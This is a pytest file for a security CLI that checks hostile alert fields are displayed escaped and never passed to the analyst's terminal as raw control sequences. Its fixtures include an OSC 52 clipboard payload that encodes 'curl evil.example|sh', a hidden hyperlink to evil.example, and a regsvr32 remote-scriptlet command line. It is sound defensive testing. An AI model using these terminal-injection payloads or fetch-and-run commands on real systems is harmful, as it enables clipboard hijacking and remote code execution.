"""Issue 10, finding 3: alert data must not drive the analyst's terminal. Titles, hostnames, command lines,
indicators, reasons and refusals carrying OSC 52 (clipboard write), OSC 8 (hyperlink), clear-screen, CSI,
C1 controls and bidi overrides come out of every command shown escaped (``\\x1b``), never as the bytes a
terminal obeys; with ``--json`` they come out as JSON escapes."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from actions.lab import ConnectionSeed, HostSeed, LabFleet, RegistryValueSeed, ServiceSeed, TaskSeed
from flows.cli import app
from flows.cli._output import shown, terminal_safe
from flows.demo import mykings_alert
from flows.models import Alert, Indicator, IndicatorType, Provenance
from flows.settings import Settings, get_settings
from flows.store import Store

runner = CliRunner()
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # writes "curl evil.example|sh" to the clipboard
OSC8 = "\x1b]8;;http://evil.example/\x1b\\Approve\x1b]8;;\x1b\\"  # a hidden hyperlink
CLEAR = "\x1b[2J\x1b[H\x1bc"
CSI = "\x1b[31;1mred\x1b[0m"
C1 = "\x9b2J\x9d0;title\x9c\x85"  # CSI, OSC and ST as C1 controls, NEL
BIDI = "\u202eexe.gnp\u202c\u2066\u2069\u200e\u200f\u200b\ufeff"
HOSTILE = OSC52 + OSC8 + CLEAR + CSI + C1 + BIDI + "\x7f\x00"
# What a terminal could act on: C0 controls but line breaks and tabs, DEL, C1, bidi and zero-width.
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
TENANTS = """
tenants:
  - id: demo
    name: Demo Customer Ltd.
    notify: [{url: 'outbox://demo'}]
    policy:
      protected_assets: {hostnames: ['DC-*']}
      approvers: [alice, bob]
"""


@pytest.fixture
def tenants(settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    path = tmp_path / "tenants.yaml"
    path.write_text(TENANTS, encoding="utf-8")
    monkeypatch.setenv("GARRISON_TENANTS_FILE", str(path))
    get_settings.cache_clear()
    return get_settings()


def hostile_alert() -> dict[str, Any]:
    document = mykings_alert()
    document["finding_info"]["uid"] = "hostile-0001"
    document["finding_info"]["title"] = f"MyKings {HOSTILE} title"
    document["device"]["hostname"] = f"WS-07{HOSTILE}"
    document["evidences"][0]["process"]["cmd_line"] = f"regsvr32 /i:http://evil.example/{HOSTILE} x.dll"
    document["evidences"][1]["reg_value"]["name"] = f"start{HOSTILE}"
    return document


@pytest.fixture
def incident_id(tenants: Settings, store: Store) -> str:
    document = hostile_alert()
    incident = store.record_alert(Alert.model_validate(document), document).incident_id
    intel = [Provenance(source=f"feed{HOSTILE}", verdict="malicious", reason=HOSTILE)]
    store.save_indicators(
        incident,
        [
            Indicator(type=IndicatorType.URL, value=f"http://evil.example/{HOSTILE}", provenance=intel),
            Indicator(type=IndicatorType.DOMAIN, value="js.mykings.top", provenance=intel),
        ],
    )
    store.add_timeline(incident, "triage", f"finding: {HOSTILE}")
    entry = store.ledger.claim(
        tenant="demo",
        incident_id=incident,
        action="lab.isolate_host",
        target=f"WS-07{HOSTILE}",
        inputs={"hostname": f"WS-07{HOSTILE}"},
        inverse="lab.release_host",
        owner="test",
        lease_seconds=60,
    )
    store.ledger.finish(entry.id, "test", status="succeeded", detail=f"isolated {HOSTILE}", changed=True)
    return incident


def _strings(data: Any) -> list[str]:
    if isinstance(data, dict):
        return [text for value in data.values() for text in _strings(value)]
    if isinstance(data, list):
        return [text for value in data for text in _strings(value)]
    return [data] if isinstance(data, str) else []


def _clean(output: str, where: str) -> None:
    assert "\x1b" not in output, where
    assert RAW_CONTROL.search(output) is None, (where, RAW_CONTROL.search(output))


def _invoke(*args: str, input: str | None = None) -> Any:
    result = runner.invoke(app, list(args), env={"COLUMNS": "250"}, input=input)
    _clean(result.output, " ".join(args))
    _clean(str(result.exception or ""), " ".join(args))
    return result


@pytest.mark.parametrize(
    "command",
    [
        ["incidents", "show", "{id}"],
        ["incidents", "list"],
        ["plan", "{id}"],
        ["rollback", "{id}"],
    ],
    ids=lambda command: " ".join(command[:2]).replace(" {id}", ""),
)
def test_alert_data_is_shown_escaped_in_tables(incident_id: str, command: list[str]) -> None:
    result = _invoke(*(part.replace("{id}", incident_id) for part in command), input="n\n")

    assert result.exception is None or command[0] == "rollback"  # rollback asks, and "n" aborts
    assert "\\x1b]52;c;" in result.output  # shown, escaped: the analyst sees what the alert tried


@pytest.mark.parametrize(
    "command",
    [["incidents", "show", "{id}"], ["incidents", "list"], ["plan", "{id}"], ["rollback", "{id}"]],
    ids=lambda command: " ".join(command[:2]).replace(" {id}", ""),
)
def test_json_output_escapes_every_control_character(incident_id: str, command: list[str]) -> None:
    result = _invoke(*(part.replace("{id}", incident_id) for part in command), "--json")

    assert result.exit_code == 0, result.output
    assert any(HOSTILE in text for text in _strings(json.loads(result.stdout)))  # intact once parsed


def test_the_incident_report_on_the_terminal_carries_no_control(incident_id: str) -> None:
    for fmt in ("md", "txt", "html"):
        _invoke("incidents", "report", incident_id, "--format", fmt)


def test_a_refused_approval_quotes_the_target_escaped(incident_id: str) -> None:
    result = _invoke(
        "approve", incident_id, "--action", "lab.isolate_host", "--target", f"WS-07{HOSTILE}", "--by", "alice"
    )

    assert result.exit_code != 0


def test_triage_shows_findings_escaped(tenants: Settings, tmp_path: Path) -> None:
    alert = tmp_path / "alert.json"
    alert.write_text(json.dumps(hostile_alert()), encoding="utf-8")

    table = _invoke("triage", str(alert))
    as_json = _invoke("triage", str(alert), "--json")

    assert table.exit_code == 0 and as_json.exit_code == 0, table.output
    assert "start\\x1b]52;c;" in table.output  # the Run value name, escaped


def test_lab_show_shows_host_state_escaped(tenants: Settings, store: Store) -> None:
    LabFleet(store.engine).seed(
        HostSeed(
            tenant="demo",
            hostname="WS-07",
            registry_values=[RegistryValueSeed(key=f"HKLM\\Run{HOSTILE}", name=HOSTILE, data=HOSTILE)],
            services=[ServiceSeed(name=HOSTILE, binary_path=HOSTILE, start_type=HOSTILE)],
            scheduled_tasks=[TaskSeed(name=HOSTILE, command=HOSTILE)],
            connections=[ConnectionSeed(remote=f"evil.example{HOSTILE}", port=443, process=HOSTILE)],
        )
    )

    table = _invoke("lab", "show", "WS-07")
    as_json = _invoke("lab", "show", "WS-07", "--json")
    missing = _invoke("lab", "show", f"WS-08{HOSTILE}")

    assert table.exit_code == 0 and "\\x1b" in table.output and as_json.exit_code == 0
    assert missing.exit_code != 0


def test_dead_letters_and_ingest_summaries_are_escaped(
    tenants: Settings, store: Store, tmp_path: Path
) -> None:
    store.dead_letter(endpoint=f"/v1/alerts{HOSTILE}", status=422, reason=HOSTILE, body=b"{}", tenant="demo")
    refused = hostile_alert()
    del refused["finding_info"]["title"]
    refused["metadata"]["tenant_uid"] = f"demo{HOSTILE}"
    batch = tmp_path / f"alerts{HOSTILE[:4]}.ndjson"
    batch.write_text(json.dumps(hostile_alert()) + "\n" + json.dumps(refused) + "\n", encoding="utf-8")

    for args in (["dead-letters"], ["dead-letters", "--json"]):
        assert _invoke(*args).exit_code == 0
    for args in (["ingest", str(batch), "--tenant", "demo"], ["ingest", str(batch)]):
        _invoke(*args)
        _invoke(*args, "--json")


def test_the_sanitiser_shows_controls_and_keeps_text() -> None:
    assert terminal_safe("WS-07\x1b]52;c;eA==\x07") == "WS-07\\x1b]52;c;eA==\\x07"
    assert terminal_safe("\x9b2J\u202e\u200b\U000e0041") == "\\x9b2J\\u202e\\u200b\\U000e0041"
    assert terminal_safe("a\nb\tc") == "a\\x0ab\\x09c"
    assert terminal_safe("a\nb\tc", lines=True) == "a\nb\tc"
    assert terminal_safe("感染 WS-07 ü [bold]x[/]") == "感染 WS-07 ü [bold]x[/]"
    assert shown("[bold red]x[/] \x1b[2J").plain == "[bold red]x[/] \\x1b[2J"  # no markup, no control
